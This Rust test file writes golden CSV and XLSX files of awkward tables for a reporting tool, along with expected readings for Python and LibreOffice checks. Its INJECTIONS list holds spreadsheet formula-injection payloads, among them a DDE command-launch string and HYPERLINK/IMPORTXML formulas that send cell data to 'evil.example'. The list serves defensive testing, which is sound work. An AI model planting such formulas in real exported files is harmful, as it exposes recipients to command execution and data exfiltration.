//! Writes files of awkward tables below the build folder's `sheets`, with what other programs must
//! read in them (`expected.json`), taken from the tables and not from the files.
//! `tests/sheets/check.py` opens them with Python's csv and pandas, openpyxl and LibreOffice.

use std::fs;
use std::path::{Path, PathBuf};

use chrono::{DateTime, TimeDelta, Utc};
use postrider::domain::chart::{Chart, ChartKind};
use postrider::domain::compare::{Beside, Compared, Delta};
use postrider::domain::expr::Unit;
use postrider::domain::goal::{Goal, GoalState};
use postrider::domain::period::Window;
use postrider::domain::report::Format;
use postrider::domain::table::{Column, Others, Section, Table};
use postrider::domain::value::{Type, Value};
use postrider::domain::zone::Zone;
use postrider::render::{DigestMail, Look, sheet};
use serde_json::{Value as Json, json};

/// What spreadsheets have taken for formulas, and what only looks dangerous.
const INJECTIONS: [&str; 24] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Acme\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A2),\"//a\")",
    "+1+1",
    "+49 30 1234567",
    "-1+1",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff0d}1",
    "\u{ff20}SUM(1)",
    "a;=1+1",
    "a\n=1+1",
    "\"=1+1\"",
    "{=1+1}",
];

fn at(text: &str) -> DateTime<Utc> {
    DateTime::parse_from_rfc3339(text).unwrap().to_utc()
}

fn text(text: &str) -> Value {
    Value::Text(text.to_owned())
}

fn column(name: &str, ty: Type, format: Format) -> Column {
    Column {
        name: name.trim_start_matches('*').to_owned(),
        format,
        grouping: name.starts_with('*'),
        numeric: ty.is_number(),
        share: format == Format::Percent,
        ty: Some(ty),
        unit: None,
        goal: None,
        pivot: None,
    }
}

fn table(name: &str, columns: Vec<Column>, rows: Vec<Vec<Value>>) -> Table {
    Table {
        coverage_low: vec![],
        report: name.to_owned(),
        definition: String::new(),
        title: format!("What is in {name}?"),
        about: None,
        window: Some(Window { from: at("2026-11-15T23:00:00Z"), to: at("2026-11-22T23:00:00Z") }),
        period: "last 7 days".to_owned(),
        zone: Zone::named("Europe/Berlin").unwrap(),
        columns,
        records: rows.len() as u64,
        rows,
        others: None,
        rest: Vec::new(),
        total: None,
        empty: None,
        list: false,
        truncated: false,
        coverage: vec!["All of them.".to_owned()],
        complete_to: Some(at("2026-11-23T06:55:00Z")),
        provisional: None,
        compared: None,
        trend: None,
        beside: Vec::new(),
        beside_total: None,
        chart: None,
        drill: None,
        only: None,
        restated: Vec::new(),
    }
}

/// Every type, every format, nulls in each.
fn types() -> Table {
    let mut weekday = column("Weekday", Type::Integer, Format::Auto);
    (weekday.unit, weekday.numeric) = (Some(Unit::Weekday), false);
    let columns = vec![
        column("*Channel", Type::Text, Format::Auto),
        weekday,
        column("Sessions", Type::Integer, Format::Auto),
        column("Mean", Type::Real, Format::Auto),
        column("Wait", Type::Real, Format::Duration),
        column("Longest", Type::Integer, Format::Duration),
        column("Drift", Type::Real, Format::Duration),
        column("Share", Type::Real, Format::Percent),
        column("Rate", Type::Real, Format::Decimals(3)),
        column("Open", Type::Boolean, Format::Auto),
    ];
    let row = |name: &str, n: i64| {
        let x = n as f64;
        vec![
            text(name),
            Value::Integer(n % 7 + 1),
            Value::Integer(n * 1_001),
            Value::Real(x * 7.416 + 0.1),
            Value::Real(x * 412.3),
            Value::Integer(n * 40_000),
            Value::Real(100.5 - x * 60.0),
            Value::Real(x / 9.0),
            Value::Real(x / 7.0),
            Value::Boolean(n % 2 == 0),
        ]
    };
    let mut rows: Vec<Vec<Value>> = (0..9).map(|n| row(&format!("Channel {n}"), n)).collect();
    rows.push(vec![Value::Null; 10]);
    let mut nothing = vec![Value::Null; 10];
    nothing[0] = text("");
    rows.push(nothing);
    Table {
        total: Some(row("", 40).into_iter().enumerate().map(no_group).collect()),
        ..table("types", columns, rows)
    }
}

fn no_group((at, value): (usize, Value)) -> Value {
    if at < 2 { Value::Null } else { value }
}

fn unicode() -> Table {
    let columns = vec![
        column("*Größe & Maß", Type::Text, Format::Auto),
        column("数", Type::Integer, Format::Auto),
    ];
    let names = [
        "Žluťoučký kůň",
        "e\u{301}",
        "شركة الأمل",
        "חברת שלום",
        "株式会社テスト",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{10ffff}",
        "turned\u{202e}txt",
        "a,b",
        "say \"no\"",
        "two\r\nlines",
        "tab\there",
        " blanks ",
        "'quoted'",
        "_x0041_",
        "<script>&amp;</script>",
        "NULL",
        "1e5",
        "007",
        "TRUE",
        "2026-11-16",
        "1/2",
        "\u{7f}del\u{1}",
    ];
    let rows = (0..).zip(names).map(|(n, name)| vec![text(name), Value::Integer(n)]);
    table("unicode", columns, rows.collect())
}

fn injections() -> Table {
    let columns = vec![
        column("*Account", Type::Text, Format::Auto),
        column("Sessions", Type::Integer, Format::Auto),
    ];
    let rows = (0..).zip(INJECTIONS).map(|(n, name)| vec![text(name), Value::Integer(-n)]);
    table("injections", columns, rows.collect())
}

fn numbers() -> Table {
    let columns = vec![
        column("*What", Type::Text, Format::Auto),
        column("Whole", Type::Integer, Format::Auto),
        column("Real", Type::Real, Format::Auto),
    ];
    let row = |name: &str, n: i64, x: f64| vec![text(name), Value::Integer(n), Value::Real(x)];
    let rows = vec![
        row("zero", 0, 0.0),
        row("exact", 9_007_199_254_740_992, 9_007_199_254_740_992.0),
        row("beyond", 9_007_199_254_740_993, 1e17),
        row("largest", i64::MAX, 1e300),
        row("smallest", i64::MIN, -1e300),
        row("tiny", -1, 1.5e-9),
        row("third", 1, 1.0 / 3.0),
        row("sum", 2, 0.1 + 0.2),
    ];
    table("numbers", columns, rows)
}

/// Around both changes of the clocks, and beyond a spreadsheet's calendar.
fn clocks() -> Table {
    let mut day = column("*Day", Type::Timestamp, Format::Auto);
    day.unit = Some(Unit::Day);
    let columns = vec![day, column("Started", Type::Timestamp, Format::Auto)];
    let day = |text: &str| Value::Timestamp(at(text));
    let row = |first: &str, started: &str| vec![day(first), day(started)];
    let rows = vec![
        row("2026-03-28T23:00:00Z", "2026-03-29T00:59:59Z"),
        row("2026-03-28T23:00:00Z", "2026-03-29T01:00:00Z"),
        row("2026-03-29T22:00:00Z", "2026-03-29T22:00:00.250Z"),
        row("2026-10-24T22:00:00Z", "2026-10-25T00:30:00Z"),
        row("2026-10-24T22:00:00Z", "2026-10-25T01:30:00Z"),
        row("2026-10-25T23:00:00Z", "2026-10-25T22:59:59Z"),
        row("1969-12-31T23:00:00Z", "1970-01-01T00:00:00Z"),
        row("1895-01-01T12:00:00Z", "1895-01-01T12:00:00Z"),
        vec![Value::Null, Value::Null],
    ];
    table("clocks", columns, rows)
}

/// 5 000 rows, most of them behind `top`.
fn many() -> Table {
    let columns = vec![
        column("*Account", Type::Text, Format::Auto),
        column("Sessions", Type::Integer, Format::Auto),
        column("Wait", Type::Real, Format::Duration),
    ];
    let mut rows: Vec<Vec<Value>> = (0..5_000_i64)
        .map(|n| {
            let wait = Value::Real((n * 37 % 1_000) as f64 / 8.0);
            vec![text(&format!("Account {n}")), Value::Integer(5_000 - n), wait]
        })
        .collect();
    let rest = rows.split_off(25);
    let whole = |n: i64| Some(vec![Value::Null, Value::Integer(n), Value::Real(62.4375)]);
    let others = Others { rows: 4_975, values: whole(12_502_500 - 124_700) };
    Table { rest, others: Some(others), total: whole(12_502_500), ..table("many", columns, rows) }
}

fn pivot() -> Table {
    let mut columns = vec![column("*Channel", Type::Text, Format::Auto)];
    for name in ["Text", "Voice", "=Video", "Total"] {
        let mut column = column(&format!("Sessions: {name}"), Type::Integer, Format::Auto);
        column.pivot = Some(name.to_owned());
        columns.push(column);
    }
    let row = |name: &str, n: i64| {
        let values = [n, 2 * n, 3 * n, 6 * n].map(Value::Integer);
        std::iter::once(text(name)).chain(values).collect::<Vec<_>>()
    };
    let mut total = row("", 6);
    total[0] = Value::Null;
    Table {
        chart: Some(Chart { kind: ChartKind::Stacked, values: vec![1], by: 0 }),
        total: Some(total),
        ..table("pivot", columns, vec![row("Web", 1), row("SMS", 2), row("Facebook", 3)])
    }
}

fn compared() -> Table {
    let mut columns = vec![
        column("*Channel", Type::Text, Format::Auto),
        column("Sessions", Type::Integer, Format::Auto),
        column("Wait", Type::Real, Format::Duration),
    ];
    columns[1].goal = Some(Goal(">= 100".parse().unwrap()));
    columns[2].goal = Some(Goal("<= 120".parse().unwrap()));
    let delta = |before: f64, change: f64| {
        Some(Delta { before, change, relative: None, usual: None, unusual: false, better: None })
    };
    let beside = |n: f64| Beside {
        deltas: vec![None, delta(100.0, n), delta(125.5, -n)],
        trend: (0..4).map(|i| (i != 1).then_some(n * f64::from(i))).collect(),
        links: vec![Some(format!("https://crm.example.com/r/{n}?a=1&b=2")), None, None],
    };
    let row =
        |name: &str, n: i64| vec![text(name), Value::Integer(n), Value::Real(n as f64 + 19.5)];
    Table {
        compared: Some(Compared {
            words: "the previous 7 days".to_owned(),
            windows: Vec::new(),
            left_out: Vec::new(),
        }),
        trend: Some(1),
        beside: vec![beside(1.0), beside(2.5)],
        beside_total: Some(beside(3.5)),
        rest: vec![row("Telegram", 7)],
        total: Some(vec![Value::Null, Value::Integer(288), Value::Real(77.0)]),
        chart: Some(Chart { kind: ChartKind::Bars, values: vec![1, 2], by: 0 }),
        ..table("compared", columns, vec![row("Web", 101), row("SMS", 180)])
    }
}

fn nothing() -> Table {
    table("nothing", vec![column("*Channel", Type::Text, Format::Auto)], Vec::new())
}

fn mail(tables: Vec<Table>) -> DigestMail {
    DigestMail {
        name: "golden".to_owned(),
        subject: String::new(),
        preheader: None,
        intro: None,
        headline: None,
        sections: tables.into_iter().map(Section::Table).collect(),
        planned_at: at("2026-11-23T07:00:00Z"),
        made_at: at("2026-11-23T07:00:04Z"),
        zone: Zone::named("Europe/Berlin").unwrap(),
        schedule: "weekdays at 08:00".to_owned(),
        missed: None,
        run: "golden-20261123T070000Z".to_owned(),
        locale: "en-GB".to_owned(),
        instance: None,
        owner: None,
        part: None,
        remarks: Vec::new(),
        attach: Vec::new(),
        bytes_max: 10_000_000,
        look: Look::default(),
        template: None,
    }
}

/// A value as any program must read it.
fn told(value: &Value, column: &Column, zone: &Zone) -> Json {
    match value {
        Value::Null => Json::Null,
        Value::Boolean(yes) => json!(yes),
        Value::Integer(n) if column.unit == Some(Unit::Weekday) => json!({ "weekday": n }),
        Value::Integer(n) => json!(n),
        Value::Real(x) => json!(x),
        Value::Text(text) => json!(text),
        Value::Timestamp(at) => {
            let civil = at.naive_utc() + TimeDelta::seconds(zone.offset_seconds(*at).into());
            match column.unit {
                Some(_) => json!({ "date": civil.date().to_string() }),
                None => json!({
                    "milliseconds": at.timestamp_millis(),
                    "civil": civil.format("%Y-%m-%dT%H:%M:%S%.3f").to_string(),
                }),
            }
        }
    }
}

/// The columns that stand beside a table's own, by hand: name, what it is, how it is written.
fn columns(table: &Table) -> Vec<(String, usize, &'static str)> {
    let mut all = Vec::new();
    for (of, column) in table.columns.iter().enumerate() {
        let name = &column.name;
        all.push((name.clone(), of, "value"));
        if table.compared.is_some() && of > 0 {
            all.push((format!("{name} before"), of, "before"));
            all.push((format!("{name} change"), of, "change"));
        }
        if column.goal.is_some() {
            all.push((format!("{name} goal"), of, "goal"));
        }
        if table.compared.is_some() && of == 0 {
            all.push((format!("{name} link"), of, "link"));
        }
        if table.trend == Some(of) {
            for (at, words) in
                ["3 periods ago", "2 periods ago", "1 period ago", "this period"].iter().enumerate()
            {
                all.push((format!("{name} {words}"), at, "trend"));
            }
        }
    }
    all
}

fn row(table: &Table, values: &[Value], beside: Option<&Beside>) -> Vec<Json> {
    let delta = |of: usize| beside.and_then(|beside| beside.deltas[of]);
    let cell = |(_, of, kind): &(String, usize, &str)| match *kind {
        "value" => told(&values[*of], &table.columns[*of], &table.zone),
        "before" => json!(delta(*of).map(|delta| delta.before)),
        "change" => json!(delta(*of).map(|delta| delta.change)),
        "goal" => match table.columns[*of].goal.unwrap().state(&values[*of]) {
            Some(GoalState::Met) => json!("met"),
            Some(GoalState::Missed) => json!("missed"),
            None => Json::Null,
        },
        "link" => json!(beside.and_then(|beside| beside.links[*of].clone())),
        _ => json!(beside.and_then(|beside| beside.trend[*of])),
    };
    columns(table).iter().map(cell).collect()
}

fn expected(table: &Table, csv: &str) -> Json {
    let shown = table.rows.iter().enumerate().map(|(at, values)| (values, table.beside.get(at)));
    let all = shown.chain(table.rest.iter().map(|values| (values, None)));
    let columns = columns(table).into_iter().map(|(name, of, kind)| {
        let of = if kind == "trend" { table.trend.unwrap() } else { of };
        let column = &table.columns[of];
        let number = column.numeric && !matches!(kind, "goal" | "link");
        let negative = |row: &Vec<Value>| row[of].number().is_some_and(|x| x < 0.0);
        let duration = number && column.format == Format::Duration;
        // What cannot be shown as a time is in seconds, and its heading says so.
        let seconds = duration && (kind == "change" || table.rows.iter().any(negative));
        json!({ "name": name, "kind": kind, "number": number,
                "duration": duration && !seconds, "seconds": seconds })
    });
    json!({
        "report": table.report,
        "csv": csv,
        "columns": columns.collect::<Vec<_>>(),
        "rows": all.map(|(values, beside)| row(table, values, beside)).collect::<Vec<_>>(),
        "others": table.others.as_ref().map(|others| json!({
            "label": format!("Others ({})", others.rows),
            "row": others.values.as_ref().map(|values| row(table, values, None)),
        })),
        "total": table.total.as_ref().map(|values| row(table, values, table.beside_total.as_ref())),
    })
}

fn folder() -> PathBuf {
    // Beside the build folder's own places, where `tests/run` finds them.
    Path::new(env!("CARGO_TARGET_TMPDIR")).parent().unwrap().join("sheets")
}

#[test]
fn golden_files_are_written_for_other_programs_to_read() {
    let folder = folder();
    fs::create_dir_all(&folder).unwrap();
    let tables = vec![
        types(),
        unicode(),
        injections(),
        numbers(),
        clocks(),
        many(),
        pivot(),
        compared(),
        nothing(),
    ];
    let mut told = Vec::new();
    for table in &tables {
        let bom = table.report == "unicode";
        let file = sheet::file_name(&[&table.report], "", "csv");
        let bytes = sheet::csv(table, bom, usize::MAX).unwrap();
        assert!(bytes == sheet::csv(table, bom, usize::MAX).unwrap());
        fs::write(folder.join(&file), bytes).unwrap();
        told.push(expected(table, &file));
    }
    let mail = mail(tables);
    let book = sheet::xlsx(&mail, usize::MAX).unwrap();
    assert!(book == sheet::xlsx(&mail, usize::MAX).unwrap());
    fs::write(folder.join("golden.xlsx"), book).unwrap();
    let expected = serde_json::to_vec_pretty(&json!({ "tables": told })).unwrap();
    fs::write(folder.join("expected.json"), expected).unwrap();
}
